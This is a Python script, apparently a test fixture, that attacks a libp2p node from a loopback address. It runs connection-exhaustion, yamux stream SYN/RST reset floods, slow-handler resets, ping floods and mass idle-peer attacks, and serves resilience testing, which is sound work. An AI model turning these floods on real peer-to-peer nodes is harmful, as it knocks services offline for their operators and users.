"""Who attacks: one process, from 127.0.0.66. `attacker.py KIND ADDRESS AMOUNT`; ends when it has done so, or at EOF."""

from __future__ import annotations

import asyncio
import contextlib
import socket
import sys
from typing import Any

import libp2p.transports.tcp.transport as tcp
from libp2p import Host, HostConfig, Libp2pError, Multiaddr
from libp2p.connection import DialOptions
from libp2p.host.identify import IdentifyConfig
from libp2p.multiaddr import host_port
from libp2p.muxers.yamux.wire import DATA, HEADER, PING, WINDOW_UPDATE, Flag
from libp2p.transports.tcp import Tcp, TcpConfig

SOURCE = "127.0.0.66"
SLOW = b"\x13/multistream/1.0.0\n\x08/slow/1\n"
PIECE = 500
"""Streams, or pings, that are sent at a time."""


def _open_from(target: Any) -> socket.socket:
    sock = _open(target)
    sock.bind((SOURCE, 0))
    return sock


_open = tcp.open_socket
tcp.open_socket = _open_from


def attacker() -> Host:
    """A host that asks nothing by itself."""
    config = HostConfig(identify=IdentifyConfig(automatic=False))
    return Host(transports=[Tcp(TcpConfig(reuse_port=False))], config=config)


async def silent(addr: str, amount: int) -> None:
    """Connect and say nothing; who is refused comes again."""
    target = host_port(Multiaddr(addr))
    held: list[socket.socket] = []
    loop = asyncio.get_running_loop()
    for _ in range(amount):
        sock = socket.socket()
        sock.setblocking(False)
        sock.bind((SOURCE, 0))
        with contextlib.suppress(OSError):
            await asyncio.wait_for(loop.sock_connect(sock, (target.host, target.port)), 1)
        held.append(sock)
        if len(held) > 800:
            held.pop(0).close()
    await asyncio.sleep(1)


def _streams(first: int, count: int, message: bytes) -> bytes:
    """So many streams that are opened, say `message`, and are reset."""
    frames = []
    for n in range(first, first + count):
        frames.append(HEADER.pack(0, DATA, Flag.SYN, 1 + 2 * n, len(message)) + message)
        frames.append(HEADER.pack(0, WINDOW_UPDATE, Flag.RST, 1 + 2 * n, 0))
    return b"".join(frames)


async def _flood(addr: str, pieces: Any) -> None:
    """Send all pieces on one connection, while there is one."""
    async with attacker() as host:
        connection: Any = await host.connect(addr)
        for piece in pieces:
            if connection.close_reason is not None:
                return
            connection._channel.send((piece,))
            await asyncio.sleep(0.005)
            while connection.close_reason is None and connection._channel.unsent > 256 * 1024:  # noqa: ASYNC110
                await asyncio.sleep(0.005)


async def resets(addr: str, amount: int) -> None:
    """SYN and RST, which ask for nothing."""
    await _flood(addr, (_streams(n, PIECE, b"") for n in range(0, amount, PIECE)))


async def slow(addr: str, amount: int) -> None:
    """Streams of a slow handler, reset at once: so that the handler begins, the reset comes a little later."""

    def pieces() -> Any:
        for n in range(0, amount, PIECE):
            both = [_streams(m, 1, SLOW) for m in range(n, n + PIECE)]
            yield b"".join(one[:-12] for one in both)
            yield b"".join(one[-12:] for one in both)

    await _flood(addr, pieces())


async def pings(addr: str, amount: int) -> None:
    """Fifty connections that ping, `amount` times each."""
    one = HEADER.pack(0, PING, Flag.SYN, 0, 7) * PIECE
    floods = (_flood(addr, (one for _ in range(0, amount, PIECE))) for _ in range(50))
    await asyncio.gather(*floods, return_exceptions=True)


async def strangers(addr: str, amount: int) -> None:
    """Idle connections, each of a fresh key, held until stdin ends."""
    hosts: list[Host] = []
    for _ in range(amount):
        hosts.append(attacker())
        await hosts[-1].__aenter__()
        with contextlib.suppress(Libp2pError, OSError):
            await hosts[-1].swarm.connect(None, [Multiaddr(addr).without_peer()], DialOptions())
    print("ready", flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    for host in hosts:
        await host.close()


if __name__ == "__main__":
    asyncio.run(globals()[sys.argv[1]](sys.argv[2], int(sys.argv[3])))
